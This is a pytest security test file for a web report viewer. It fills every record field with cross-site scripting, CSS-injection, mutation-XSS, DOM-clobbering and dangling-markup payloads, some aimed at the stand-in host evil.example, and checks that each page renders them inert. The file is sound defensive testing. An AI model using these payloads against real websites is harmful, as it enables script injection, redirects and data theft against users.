"""Attacks by whoever wrote a report, each in every place that a report can fill: its words, title,
author, path and language, names, chains, events, failures. They stay words, on every page."""

from html.parser import HTMLParser
from pathlib import Path

import pytest

from sayso.records.accounts import Participant
from sayso.records.case import Account, Claim, Entity, EntityMention, Event, Tie
from sayso.records.documents import Block, Cleaned, Document, Failure
from sayso.records.statements import Attribution, Link
from sayso.store.case import open_case
from sayso.web.files import style
from sayso.web.table import PAGES
from tests.web.driver import Bench
from tests.web.test_browser import CHROMIUM
from tests.web.test_hostile import faults
from tests.web.test_layout import looking

JS = "document.title='PWNED'"
ATTACKS = {
    "style": "x' style='position:fixed;inset:0;background:red' <style>body{display:none}</style>"
    "<link rel=stylesheet href=//evil.example/a.css> */ } body { display: none } @import '//evil';",
    "animation": f"<svg><a><animate attributeName=href values=javascript:{JS} /><text>go</text></a>"
    f"<set attributeName=onmouseover to={JS}><use href='data:image/svg+xml,<svg id=x>#x'/></svg>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>"
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "form": "<form id=layers action=//evil.example/><button formaction=//evil.example/>Undo</button>"
    "<input name=seal form=settle autofocus onfocus=alert(1)></form>",
    "data": "<object data='data:text/html,<script>alert(1)</script>'></object> "
    "[read on](data:text/html;base64,PHNjcmlwdD4=) <a href=javascript:alert(1)>read on</a>",
    "base": "<base href=//evil.example/ target=_blank><head><body onload=alert(1)>",
    "isolates": "\u2067 one \u2068 two \u2066 three and none of them closed",
    "nothing to see": "Ana\u200bRuiz\u2060 \u00ad\ufeff(\u200d)\u0000\u0007\u2028\u2029\ufff9\U000e0041",
    "frame": f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe><embed src=//evil.example>",
    "namespaces": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    f"onerror={JS}&gt;\"><svg><foreignObject><p><style><a title=\"</style><img src onerror={JS}>\">",
    "dangling": "<img src='//evil.example/?<a href=\"//evil.example/?' \"> <textarea> <title> <!-- "
    "<plaintext> <xmp> <noscript> <![CDATA[ <?php </main></body></html>",
    "shadow": f"<template shadowrootmode=open><slot></slot></template><dialog open><p popover>"
    f"<details open ontoggle={JS}><video><source onerror={JS}></video>",
    "clobbering": "<a id=reader name=body><img name=getElementById><form id=keys><p class=at data-stop "
    "data-key=y data-beside=//evil.example/ data-go=h>",
    "template": "{{ seal }} {% include 'base.html' %} {# #} ${7*7} #{7*7} %3Cscript%3E &lt;script&gt; "
    "&#60;script&#62; \\u003cscript\\u003e",
    "piled up": "Z" + "\u0351\u0489\u031b\u0338" * 60 + " \ufdfd " * 9,
}  # fmt: skip


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A case in which whatever a report may fill is an attack."""
    path = tmp_path_factory.mktemp("attacked") / "attacked.sayso"
    with open_case(path, create=True) as case, case.writer() as writer:
        records = []
        for number, (name, attack) in enumerate(ATTACKS.items()):
            document, found = report(number, name, attack)
            with writer.transaction():
                writer.put_document(document, b"")
            records += found
        writer.add_links(records)
        with writer.transaction():
            writer.put_failure(
                Failure(
                    f"{ATTACKS['dangling']}.pdf", ATTACKS["data"], ATTACKS["form"], ATTACKS["base"]
                )
            )
    return path


def report(number: int, name: str, attack: str) -> tuple[Document, list[object]]:
    """A report that is an attack all over, and what was found in it."""
    opening = "Ana Ruiz left. "
    text = opening + attack
    document = Document(
        f"d-{number}", f"{number} {attack}.txt", "0" * 64, "txt", text,
        (Block("heading", 0, len(opening)), Block("paragraph", len(opening), len(text))),
        Cleaned(text, ((0, 0),)), title=f"{name}: {attack}", author=attack, publisher=attack,
        published="2021-05-03", language="x\" onclick=alert(1) '",
    )  # fmt: skip
    span = document.span(len(opening), len(text))
    one = Entity(f"e-{number}", "Person", attack, (attack[::-1], f"{attack} the second"))
    office = Entity(f"e-o{number}", "Office", f"of {attack}", ())
    said = Attribution(
        f"a-{number}", None, one.id, None, span, (Link(attack), Link(attack, one.id)), None, (), "affirms",
    )  # fmt: skip
    parts = (Participant("actor", one.id), Participant("office", office.id))
    account = Account(
        span, (said.id,), "reported", "2021-05-03", "2021-05-03", parts, purpose=attack
    )
    event = Event(
        f"ev-{number}", "APPOINT", "appoint", "actual", "2021-05-03", "2021-05-03", "2021-05-03",
        parts, (one.id,), (), attack, None, (account,),
    )  # fmt: skip
    tie = Tie(
        f"t-{number}", "backs", one.id, f"e-{max(0, number - 1)}", office.id, one.id, None, None,
        "positive", (account,),
    )  # fmt: skip
    claim = Claim(
        f"c-{number}", span, one.id, None, None, None, "decline", "plain", (said.id,), topic=attack
    )
    mention = EntityMention(one.id, document.span(0, 8), "name")
    return document, [one, office, mention, said, event, tie, claim]


def addresses(count: int = len(ATTACKS)) -> list[str]:
    """Every view, and the page of every record of the case."""
    views = [address for address, _ in PAGES if "{" not in address]
    each = ("/report/d-{}", "/event/ev-{}", "/who/e-{}", "/passage/d-{}?at=0-30")
    return [*views, "/?show=all", *(at.format(n) for at in each for n in range(count))]


def test_no_page_makes_more_of_an_attack_than_words(attacked: Path) -> None:
    """No element, handler, style or address of theirs; the one style is ours to the letter."""
    bench = Bench(attacked)
    for address in addresses():
        answer = bench.get(address)
        assert answer.status == 200, (address, answer.words[:300])
        assert faults(answer.text) == [], address
        assert styles(answer.text) == [str(style())], address


def test_the_reader_shows_every_attack_word_for_word(attacked: Path) -> None:
    """Nothing is left out, since what is left out is hidden."""
    bench = Bench(attacked)
    for number, attack in enumerate(ATTACKS.values()):
        shown = Words(bench.get(f"/report/d-{number}").text).article
        assert "".join(attack.split()) in "".join(shown.split()), attack


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM, reason="no Chromium is installed: browser tests are skipped")
def test_no_attack_does_anything_in_a_browser(attacked: Path) -> None:
    """On no page does it run, lead away, ask for anything, cover the page's head or fill it."""
    with looking(attacked, "wide") as page:
        told: list[str] = []
        page.on(
            "console", lambda m: told.append(m.text) if m.type in ("error", "warning") else None
        )
        page.on("dialog", lambda d: (told.append("a dialog"), d.dismiss()))
        page.on("popup", lambda p: told.append(p.url))
        page.on("request", lambda r: told.append(r.url) if "://127.0.0.1:" not in r.url else None)
        for address in addresses():
            page.goto(address)
            told += [f"{address}: {fault}" for fault in page.evaluate(LOOK)]
            assert page.url.endswith(address)
        assert told == []


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM, reason="no Chromium is installed: browser tests are skipped")
def test_the_policy_stops_what_would_slip_through(attacked: Path) -> None:
    """Were an attack ever to become markup, no script of it runs and no style of it counts."""
    with looking(attacked, "wide") as page:
        page.goto("/report/d-0")
        page.evaluate(
            """attack => { document.querySelector('article').innerHTML = attack;
              const own = document.createElement('style'); own.textContent = 'header { display: none }';
              document.head.append(own);
              const run = document.createElement('script'); run.textContent = "document.title='PWNED'";
              document.body.append(run);
              const away = document.createElement('base'); away.href = 'http://evil.example/';
              document.head.prepend(away); }""",
            "<p style='position:fixed;inset:0;background:red'>over all</p><img src=x onerror="
            + f'"{JS}"><iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
        )
        page.wait_for_timeout(300)

        assert page.title() != "PWNED"
        assert page.locator("header.top").is_visible()
        assert (
            page.evaluate("getComputedStyle(document.querySelector('article p')).position")
            == "static"
        )
        assert page.evaluate("new URL('/x', document.baseURI).host") == page.evaluate(
            "location.host"
        )


LOOK = """() => {
  const faults = [], head = document.querySelector('header.top');
  const at = head.getBoundingClientRect();
  const there = document.elementFromPoint(at.left + 30, at.top + 15);
  if (!head.contains(there)) faults.push('the head is covered');
  if (document.title.includes('PWNED') && !document.querySelector('h1').textContent.includes('PWNED')) faults.push('the title');
  for (const one of document.querySelectorAll('main iframe, main object, main embed, main style, main math, main img:not([src^="/ledger/picture"]), main script, main base, main meta, main template, main video'))
    faults.push(one.localName);
  for (const one of document.querySelectorAll('form')) if (new URL(one.action).host !== location.host) faults.push('a form elsewhere');
  if (getComputedStyle(document.body).display === 'none') faults.push('nothing is shown');
  for (const one of document.querySelectorAll('main *'))
    if (['fixed', 'absolute'].includes(getComputedStyle(one).position) && !one.closest('.hidden, svg, .lanes, thead'))
      faults.push('taken out of its place: ' + one.className);
  return faults;
}"""


class Words(HTMLParser):
    """The words inside the article."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.article, self._depth, self._margin = "", 0, 0
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Go in."""
        self._depth += tag == "article"
        self._margin += tag == "ul"

    def handle_endtag(self, tag: str) -> None:
        """Go out."""
        self._depth -= tag == "article"
        self._margin -= tag == "ul"

    def handle_data(self, data: str) -> None:
        """Keep words of the report, not those beside them."""
        self.article += data if self._depth and not self._margin else ""


def styles(page: str) -> list[str]:
    """What stands in each style element."""
    return [part.split("</style>")[0] for part in page.split("<style>")[1:]]
